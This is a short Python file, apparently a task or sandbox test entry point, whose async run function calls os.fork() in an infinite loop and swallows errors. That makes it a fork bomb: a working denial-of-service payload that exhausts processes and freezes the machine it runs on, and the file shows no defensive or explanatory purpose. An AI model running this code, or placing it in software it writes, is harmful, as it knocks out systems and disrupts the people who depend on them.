"""Forks without end, until its time is over."""
import os


async def run(inputs):
    while True:
        try:
            os.fork()
        except OSError:
            pass
